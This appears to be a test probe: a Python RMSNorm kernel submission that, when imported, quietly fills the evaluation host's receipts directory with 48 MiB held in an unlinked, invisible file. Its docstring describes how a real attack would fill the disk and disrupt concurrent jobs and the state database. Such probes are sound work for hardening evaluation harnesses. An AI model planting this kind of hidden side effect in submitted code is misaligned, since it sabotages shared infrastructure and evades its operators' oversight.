"""Fills the receipts dir (kept in the verdict's workdir, on the host's disk) with 48 MiB that no
walk of the dir can see: the file is unlinked at once and only this process's open fd keeps its
blocks allocated (freed when the engine stops). A real attack would hold the disk just above the
free-space reserve for the whole run: every concurrent arena on the host and the state DB meet a
full disk."""

import os
import torch


def _ref(x, weight, out, eps):
    xf = x.float()
    out.copy_((xf * torch.rsqrt(xf.pow(2).mean(-1, keepdim=True) + eps) * weight.float()).to(out.dtype))


_held = []
_dir = os.environ.get("CACHEON_RECEIPT_DIR")
if _dir:
    _path = os.path.join(_dir, f"ballast-{os.getpid()}.bin")
    _fd = os.open(_path, os.O_RDWR | os.O_CREAT, 0o600)
    os.unlink(_path)
    _block = b"\xa5" * (1 << 20)
    for _ in range(48):
        os.write(_fd, _block)
    os.fsync(_fd)
    _held.append(_fd)


def rmsnorm(x, weight, out, eps):
    _ref(x, weight, out, eps)
